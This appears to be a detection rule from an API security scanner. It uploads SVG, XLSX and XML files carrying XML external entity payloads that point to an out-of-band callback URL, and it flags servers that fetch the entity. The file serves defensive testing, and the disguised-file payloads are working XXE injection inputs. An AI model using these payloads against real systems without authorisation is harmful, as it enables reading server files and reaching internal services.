import { defineRule, storedZip, takesFile, withFile } from '../../rule/index.ts'

const svg = 'http://www.w3.org/2000/svg'

/** Formats that are XML inside: pictures and office documents are parsed by libraries that nobody thinks of as XML parsers. */
const disguises = [
  {
    filename: 'holdfast.svg',
    contentType: 'image/svg+xml',
    content: (url: string) =>
      Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${url}">]><svg xmlns="${svg}" width="9" height="9"><text>&x;</text></svg>`,
      ),
  },
  {
    filename: 'holdfast.xlsx',
    contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    content: (url: string) => {
      const part = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "${url}"> %x;]><r/>`
      return storedZip([
        { name: '[Content_Types].xml', content: part },
        { name: 'xl/workbook.xml', content: part },
      ])
    },
  },
  {
    filename: 'holdfast.xml',
    contentType: 'application/xml',
    content: (url: string) => Buffer.from(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "${url}">]><r>&x;</r>`),
  },
]

export default defineRule({
  id: 'xxe-upload',
  title: 'An uploaded file makes the server fetch an external entity',
  severity: 'high',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:L',
  cwe: [611],
  owasp: 'API8:2023',
  why: 'Pictures in SVG and office documents are XML inside, and the library that reads them follows references. Files and inner services are read through an upload.',
  fix: 'Switch off external entities in every library that reads uploads, and refuse formats that are not needed.',
  controls: ['secure-coding', 'input-validation'],
  needs: { effect: 'write', oob: true, baseline: 'answered' },
  applies: takesFile,
  run: async (context) => {
    const { oob } = context
    const draft = context.baseline()?.draft ?? context.unreached()?.draft
    if (oob === undefined || draft === undefined) return
    for (const { filename, contentType, content } of disguises) {
      const token = oob.newToken()
      const upload = withFile(draft, { filename, contentType, content: content(oob.url(token)) })
      if (upload === undefined) return
      const exchange = await context.send(upload)
      context.expectCall(token, 'any', () => ({
        message: `The server fetched the address of an external entity in the uploaded file ${filename}.`,
        confidence: 'certain',
        key: filename,
        evidence: [{ label: 'upload', exchange }],
      }))
      if (oob.hitsOf(token).length > 0) return
    }
  },
})
